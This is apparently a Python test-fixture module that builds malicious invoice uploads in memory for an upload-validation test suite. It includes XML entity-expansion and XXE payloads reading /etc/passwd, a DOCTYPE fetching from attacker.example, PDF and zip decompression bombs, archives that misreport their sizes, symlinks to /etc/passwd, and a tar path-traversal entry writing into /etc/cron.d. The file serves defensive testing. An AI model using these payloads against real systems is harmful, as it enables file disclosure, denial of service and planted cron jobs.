"""Hostile uploads, built in memory and small: each one expands, reaches out or lies only when
a careless reader opens it. Shared by the tests and bench/validate.py."""

from __future__ import annotations

import io
import stat
import struct
import tarfile
import zipfile
import zlib

MiB = 1024 * 1024
_PAGE_RESOURCES = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">
  <rsm:ExchangedDocument>&lol9;</rsm:ExchangedDocument>
</rsm:CrossIndustryInvoice>
"""

XXE_PASSWD = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>&xxe;</cbc:ID>
</Invoice>
"""

DOCTYPE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>
"""

# The DOCTYPE comes after a comment holding "<a": a naive "prolog ends at the first tag" scan
# stops early; the parsed tree must still be checked.
DOCTYPE_BEHIND_COMMENT = b"""<?xml version="1.0"?>
<!-- <a> looks like a start tag -->
<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<r>&e;</r>
"""

XXE_UTF16 = XXE_PASSWD.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16")


def zeros_deflate(total: int, chunk: int = MiB) -> bytes:
    """A valid zlib stream of ``total`` zero bytes (a multiple of ``chunk``), built without
    deflating ``total`` bytes: after a full flush the compressor starts afresh, so every
    further chunk of zeros compresses to the very same bytes, which are simply repeated."""
    count = total // chunk
    compressor = zlib.compressobj(9)
    zeros = bytes(chunk)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    # Empty final fixed-Huffman block, then Adler-32 of `total` zeros: A = 1, B = total.
    ending = b"\x03\x00" + struct.pack(">I", ((total % 65521) << 16) | 1)
    return first + repeated * (count - 1) + ending


def pdf(objects: list[bytes]) -> bytes:
    """A PDF from numbered object bodies (object 1 is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return dictionary[:-2] + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def pdf_with_attachment(xml_stream: bytes, *, flate: bool = True, content: bytes = b"") -> bytes:
    """A one-page PDF carrying ``factur-x.xml`` (already-compressed stream data if flate)."""
    flate_filter = b" /Filter /FlateDecode" if flate else b""
    page_content = content or b"BT /F1 12 Tf 72 720 Td (Facture) Tj ET"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(factur-x.xml) "
            b"4 0 R] >> >> /AF [4 0 R] >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R "
            + _PAGE_RESOURCES
            + b" >>",
            b"<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /AFRelationship /Data "
            b"/EF << /F 5 0 R >> >>",
            _stream(b"<< /Type /EmbeddedFile /Subtype /text#2Fxml" + flate_filter + b" >>", xml_stream),
            _stream(b"<< >>", page_content),
        ]
    )


def pdf_bomb_attachment(total: int = 2048 * MiB) -> bytes:
    """Factur-X-looking PDF whose factur-x.xml inflates to ``total`` bytes (2 GiB: ~2 MB)."""
    return pdf_with_attachment(zeros_deflate(total))


def pdf_bomb_content_stream(total: int = 2048 * MiB) -> bytes:
    """Plain PDF whose page content stream inflates to ``total`` bytes."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            + _PAGE_RESOURCES
            + b" >>",
            _stream(b"<< /Filter /FlateDecode >>", zeros_deflate(total)),
        ]
    )


def zip_of(entries: dict[str, bytes], *, level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_entry_claiming(size: int, level: int = 1) -> bytes:
    """One deflated entry of ``size`` zeros: its central directory says ``size``."""
    return zip_of({"facture.xml": bytes(size)}, level=level)


def zip_nested(depth: int = 2, width: int = 16) -> bytes:
    """42.zip in miniature: archives of archives of a zero-filled file."""
    data = zip_of({"0.xml": bytes(MiB)})
    for _ in range(depth):
        data = zip_of({f"{index}.zip": data for index in range(width)})
    return data


def zip_overflowing_total(entries: int = 13, size: int = 10 * MiB) -> bytes:
    """Every entry under the per-file cap, the sum over the batch cap."""
    zeros = bytes(size)
    return zip_of({f"facture-{index}.xml": zeros for index in range(entries)}, level=1)


def zip_lying_sizes(real: int = 5 * MiB, claimed: int = 1000) -> bytes:
    """An entry whose headers claim ``claimed`` bytes but whose data inflates to ``real``."""
    data = bytearray(zip_of({"facture.xml": bytes(real)}, level=1))
    packed_real, packed_claimed = struct.pack("<I", real), struct.pack("<I", claimed)
    # uncompressed-size fields: local header offset 22, central directory offset 24
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    assert data[local + 22 : local + 26] == packed_real
    assert data[central + 24 : central + 28] == packed_real
    data[local + 22 : local + 26] = packed_claimed
    data[central + 24 : central + 28] = packed_claimed
    return bytes(data)


def zip_with_symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("facture.xml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def tar_gz(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for info, data in members:
            info.size = len(data) if info.isfile() else 0
            archive.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return buffer.getvalue()


def tar_gz_member_claiming(size: int = 10 * 1024 * MiB) -> bytes:
    """A tar.gz whose only header announces ``size`` bytes (10 GiB); the data is not there."""
    info = tarfile.TarInfo("facture.xml")
    info.size = size
    header = info.tobuf(format=tarfile.GNU_FORMAT)
    return _gzip(header + bytes(2 * 512))


def tar_gz_symlink() -> bytes:
    info = tarfile.TarInfo("facture.xml")
    info.type = tarfile.SYMTYPE
    info.linkname = "/etc/passwd"
    return tar_gz([(info, b"")])


def tar_gz_traversal() -> bytes:
    return tar_gz([(tarfile.TarInfo("../../etc/cron.d/evil"), b"* * * * * root id\n")])


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data)
